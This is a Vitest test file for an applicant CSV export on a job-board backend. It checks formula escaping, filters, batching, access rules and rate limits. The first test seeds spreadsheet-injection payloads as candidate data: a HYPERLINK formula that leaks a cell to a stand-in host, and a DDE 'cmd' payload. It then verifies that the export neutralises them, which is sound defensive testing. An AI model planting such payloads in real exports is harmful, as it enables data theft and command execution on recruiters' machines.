import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { anAdmin } from '../../../seeds/admin-factory.ts';
import { ratingRow } from '../../../seeds/applicant-tools-factory.ts';
import { anApplication } from '../../../seeds/application-factory.ts';
import { aCandidate, candidateRows } from '../../../seeds/candidate-factory.ts';
import { aColleague } from '../../../seeds/colleague-factory.ts';
import { aCompany } from '../../../seeds/company-factory.ts';
import { storeRows } from '../../../seeds/demo/store-rows.ts';
import { aVacancy } from '../../../seeds/vacancy-factory.ts';
import { loggedAbout } from '../../../test/stored/logged-about.ts';
import { findUnreadColumns, openRecordingDatabase } from '../../../test/stored/unread-columns.ts';
import { type Person, startTestApp } from '../../../test/test-app.ts';
import { applicantLimits } from '../applicant-routes.ts';
import { rowsInMemory, writeApplicants } from './applicant-export.ts';

const { app, authorization, db, services } = await startTestApp();
const padaria = await aCompany(db);

const download = async (vacancy: { id: string }, as: Person, query = '') =>
  app.inject({
    url: `/api/user/company/vacancy/applicants-csv/${vacancy.id}?${query}`,
    headers: await authorization(as),
  });

/** Returns the cells of each row by the title of their column. Fails if the rows have different lengths. */
const parseRows = (text: string): Record<string, string>[] =>
  parse(text, { columns: true, delimiter: ';', bom: true, record_delimiter: '\r\n' });

test('Excel opens the applicants as a table in which no cell is a formula', async () => {
  const vacancy = await aVacancy(db, padaria, { title: 'Padeira "chefe"; São João' });
  const hostile = [
    '=HYPERLINK("http://mal.example?"&A1;"Clique")',
    '+5511',
    '-2+3',
    '@SUM(1;2)',
    '＝1+1',
    'Ana "Aspas"; Vírgula, Lima',
    'José\r\nQuebra',
    'Zoë 👩🏽‍🍳 Çelik',
  ];
  for (const name of hostile) {
    const candidate = await aCandidate(db, {
      name,
      phone: '5511987654321',
      desired_role: "=cmd|'/c calc'!A0",
    });
    await anApplication(db, candidate, vacancy, {
      status: 'Aprovado',
      comments: '-Comentário\ncom duas linhas',
      applied_at: '2026-03-02T02:30:00Z',
    });
  }
  const marina = await aColleague(db, padaria, { right: 'Recrutamento' });

  const response = await download(vacancy, marina, 'order=oldest');

  expect(response.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="candidatos-padeira-chefe-sao-joao-\d{4}-\d\d-\d\d\.csv"$/,
    ) as string,
    'cache-control': 'no-store',
  });
  // Excel recognizes UTF-8 by the byte order mark.
  expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  // The header, the line break inside a name and the end of the last line add one part each.
  expect(response.body.split('\r\n')).toHaveLength(hostile.length + 3);
  const rows = parseRows(response.body);
  expect(Object.keys(rows[0] ?? {}).slice(0, 3)).toEqual(['Nome', 'E-mail', 'Telefone']);
  // Five names start like a formula and are now text.
  expect(rows.map(({ Nome }) => Nome).sort()).toEqual(
    hostile.map((name, index) => (index < 5 ? `'${name}` : name)).sort(),
  );
  for (const row of rows) {
    expect(Object.values(row).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(row).toMatchObject({
      Telefone: '(11) 98765-4321',
      'Cargo desejado': "'=cmd|'/c calc'!A0",
      Status: 'Aprovado',
      'Candidatura em': '01/03/2026 23:30',
      'Último comentário': "'-Comentário\ncom duas linhas",
    });
  }
  expect(await loggedAbout(db, 'Candidatos exportados')).toEqual([
    expect.stringContaining('Candidatos exportados: 8, vaga Padeira "chefe"; São João') as string,
  ]);
});

test('the table has the filters and order of the list, with hidden but without banned candidates', async () => {
  const vacancy = await aVacancy(db, padaria);
  const [ana, bia, caio, davi] = await Promise.all(
    [
      { name: 'Ana', state: 'SP' },
      { name: 'Bia', state: 'SP', visible: false },
      { name: 'Caio', state: 'SP', banned: true },
      { name: 'Davi', state: 'RJ' },
    ].map((person) => aCandidate(db, person)),
  );
  for (const candidate of [ana, bia, caio, davi]) if (candidate) await anApplication(db, candidate, vacancy);
  await db
    .insertInto('application_rating')
    .values(ratingRow({ candidate_id: bia?.id ?? '', vacancy_id: vacancy.id }, padaria, 4))
    .execute();
  const namesWithRatings = async (query: string) =>
    parseRows((await download(vacancy, padaria, query)).body).map((row) =>
      `${row.Nome} ${row['Avaliação (1 a 5)']}`.trim(),
    );

  expect(await namesWithRatings('order=rating')).toEqual(['Bia 4', 'Davi', 'Ana']);
  expect(await namesWithRatings('state=SP&order=oldest')).toEqual(['Ana', 'Bia 4']);
  expect(await namesWithRatings('status=Aprovado')).toEqual([]);
});

test('a table of several batches contains everybody once', async () => {
  const vacancy = await aVacancy(db, padaria);
  const rowCount = rowsInMemory + 1;
  const people = await Promise.all(
    Array.from({ length: rowCount }, (_, index) => candidateRows({ name: `P${index}` })),
  );
  await db.transaction().execute(async (transaction) => {
    await storeRows(
      transaction,
      'account',
      people.map(({ account }) => account),
    );
    await storeRows(
      transaction,
      'candidate',
      people.map(({ candidate }) => candidate),
    );
    await storeRows(
      transaction,
      'application',
      people.map(({ candidate }, slot) => ({
        candidate_id: candidate.id,
        vacancy_id: vacancy.id,
        id: candidate.id,
        applied_day: '2026-03-02',
        slot: (slot % 10) + 1,
      })),
    );
  });

  for (const order of ['newest', 'match']) {
    const rows = parseRows((await download(vacancy, padaria, `order=${order}`)).body);
    expect(rows).toHaveLength(rowCount);
    expect(new Set(rows.map(({ Nome }) => Nome)).size).toBe(rowCount);
  }
});

test('only the company exports its applicants, at most thirty times a day', async () => {
  const vacancy = await aVacancy(db, padaria);
  const codeOf = async (as: Person, query = '') =>
    (await download(vacancy, as, query)).json<{ code: string }>().code;

  expect(await codeOf(await aCompany(db))).toBe('not_owner');
  expect(await codeOf(await aCandidate(db))).toBe('wrong_role');
  expect(await codeOf(await anAdmin(db))).toBe('wrong_role');
  expect(await codeOf(padaria, 'order=salary')).toBe('invalid_input');
  const { applicantExport } = applicantLimits;
  for (let exported = 0; exported < applicantExport.points; exported += 1)
    await services.rateLimits.tryConsume(applicantExport, padaria.id);
  const refusal = await download(vacancy, padaria);
  expect([refusal.statusCode, refusal.json<{ code: string }>().code]).toEqual([429, 'too_many_requests']);
});

/** Columns that are not in the table, each with the reason. */
const omittedColumns = {
  'application.applied_day': 'computed from the time of the application',
  'application.opening_tell_at': 'when a pending notification is sent',
  'application.reply_reminded': 'for the notice',
  'application.slot': 'counts the applications of a day',
  'application.tell_at': 'when a pending notification is sent',
  'application.told_comments': 'for a pending notification',
  'application.told_status': 'for a pending notification',
  'application.told_unseen': 'for a pending notification',
  'application.unseen': 'for the candidate only',
  'candidate.about': 'in the resume, one click away',
  'candidate.account_version': 'detects simultaneous edits',
  'candidate.banned': 'banned candidates are not in the table',
  'candidate.cep': 'in the resume, one click away',
  'candidate.civil_status': 'in the resume, one click away',
  'candidate.complement': 'in the resume, one click away',
  'candidate.courses': 'in the resume, one click away',
  'candidate.desired_city': 'in the resume, one click away',
  'candidate.desired_state': 'in the resume, one click away',
  'candidate.education_level': 'in the resume, one click away',
  'candidate.experience': 'in the resume, one click away',
  'candidate.experience_due': 'when the days of experience are computed next',
  'candidate.gender': 'in the resume, one click away',
  'candidate.hierarchical_area': 'in the resume, one click away',
  'candidate.languages': 'in the resume, one click away',
  'candidate.last_job': 'in the resume, one click away',
  'candidate.link': 'in the resume, one click away',
  'candidate.neighborhood': 'in the resume, one click away',
  'candidate.number': 'in the resume, one click away',
  'candidate.qualifications': 'in the resume, one click away',
  'candidate.resume_version': 'detects simultaneous edits',
  'candidate.salary': 'in the resume, one click away',
  'candidate.salary_amount': 'computed from the salary',
  'candidate.salary_currency': 'computed from the salary',
  'candidate.search_seq': 'an index of the search',
  'candidate.street': 'in the resume, one click away',
  'candidate.visible': 'applicants are in the table, hidden or not',
} as const;

test('every column about an applicant is in the table unless it is omitted for a reason', async () => {
  const vacancy = await aVacancy(db, padaria);
  const recording = openRecordingDatabase(services.pool);
  await Array.fromAsync(writeApplicants(recording.db, vacancy.id, { order: 'oldest' }));

  const unread = await findUnreadColumns(db, ['candidate', 'application'], recording.statements);

  expect(unread.sort(), 'Add a new column to the table, or to omittedColumns with the reason.').toEqual(
    Object.keys(omittedColumns).sort(),
  );
});
